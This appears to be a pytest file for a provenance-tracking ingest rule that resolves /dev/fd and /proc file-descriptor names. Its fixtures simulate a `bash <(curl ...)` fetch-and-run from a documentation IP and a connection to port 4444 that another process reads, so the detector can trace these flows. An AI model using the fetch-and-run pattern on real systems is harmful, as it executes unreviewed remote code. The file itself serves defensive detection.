"""Names of descriptors (/dev/fd, /proc): opening one opens what the descriptor holds."""

from __future__ import annotations

import pytest

from provenance.ingest.rules.files import descriptor_named
from tests.ingest.script import FIFO, O_RDONLY, Script


@pytest.mark.parametrize(
    ("name", "descriptor"),
    [
        ("/dev/fd/63", (None, 63)),
        ("/proc/self/fd/3", (None, 3)),
        ("/proc/thread-self/fd/3", (None, 3)),
        ("/proc/4711/fd/5", (4711, 5)),
        ("/proc/4711/task/4712/fd/5", (4711, 5)),
        ("/dev/stdin", (None, 0)),
        ("/dev/stderr", (None, 2)),
        ("/dev/fd", None),
        ("/dev/fd/63/x", None),
        ("/dev/fd/99999999999", None),
        ("/srv/dev/fd/63", None),
        ("/proc/self/fd/x", None),
    ],
)
def test_which_names_are_descriptors(name: str, descriptor: tuple[int | None, int] | None) -> None:
    assert descriptor_named(name) == descriptor


def _substitution(name: str) -> set[str]:
    """`bash <(curl ...)`: a shell makes a pipe, curl writes into it, bash is told to run what it reads at `name`."""
    script = Script()
    shell = script.process(100, comm="bash")
    shell.pipes(63, 62)
    curl = shell.forks(101)
    curl.dups(62, 1)
    curl.execs("/usr/bin/curl", "-s", "http://203.0.113.9/x")
    shell.closes(62)
    inner = shell.forks(102)
    inner.execs("/bin/sh", name)
    inner.opens(name, O_RDONLY, fd=3, mode=FIFO)
    return {flow for flow in script.facts().flows if "PIPED" in flow or "READ" in flow}


@pytest.mark.parametrize("name", ["/dev/fd/63", "/proc/self/fd/63", "/proc/102/fd/63"])
def test_process_substitution_runs_what_the_other_program_wrote(name: str) -> None:
    flows = _substitution(name)
    assert any(flow.startswith("curl:101 -PIPED-> pipe") for flow in flows), flows
    assert any(flow.startswith("pipe") and flow.endswith("-PIPED-> sh:102") for flow in flows), flows


def test_another_name_is_another_file() -> None:
    flows = _substitution("/srv/fd/63")
    assert "/srv/fd/63 -READ-> sh:102" in flows


def test_the_descriptor_of_another_process() -> None:
    script = Script()
    writer = script.process(100, comm="writer")
    writer.connects(3, "203.0.113.9", 4444)
    reader = script.process(200, comm="reader")
    reader.opens("/proc/100/fd/3", O_RDONLY, fd=5, mode=FIFO)
    assert any("203.0.113.9:4444" in flow and flow.endswith("reader:200") for flow in script.facts().flows)


def test_a_descriptor_that_the_log_does_not_know_stays_a_file() -> None:
    script = Script()
    script.process(100, comm="cat").opens("/dev/fd/7", O_RDONLY, fd=3, mode=FIFO)
    assert "/dev/fd/7 -READ-> cat:100" in script.facts().flows
